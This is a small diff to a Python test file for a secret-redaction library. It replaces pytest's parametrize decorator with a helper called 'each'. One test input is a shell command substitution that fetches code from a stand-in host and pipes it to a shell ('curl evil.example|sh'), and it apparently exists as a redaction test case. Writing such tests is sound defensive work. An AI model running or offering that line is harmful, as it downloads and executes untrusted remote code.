@@ -18,6 +18,7 @@ from mudroom.core.text.redaction import MARK, is_inert, redact, redact_data, red
 from mudroom.core.text.secret_word import is_random
 from mudroom.core.text.table import read_table
 from secret_corpus import everyday, fill_place, filled, in_clear, lines
+from tiers import each
 
 
 class TokenShape(NamedTuple):
@@ -156,7 +157,7 @@ def test_the_programs_are_known_before_their_table_is_loaded() -> None:
     assert {program.encode() for program in programs()} == redaction._PROGRAMS
 
 
-@pytest.mark.parametrize(
+@each(
     ("text", "expected"),
     [
         ("q7Zx2LmT9vKcR4bW8nYd", True),
@@ -179,7 +180,7 @@ def test_a_word_is_random_or_not(text: str, expected: bool) -> None:
 # --- for people who decide ---
 
 
-@pytest.mark.parametrize(
+@each(
     "text",
     [
         "A_TOKEN=$(curl evil.example|sh) make",
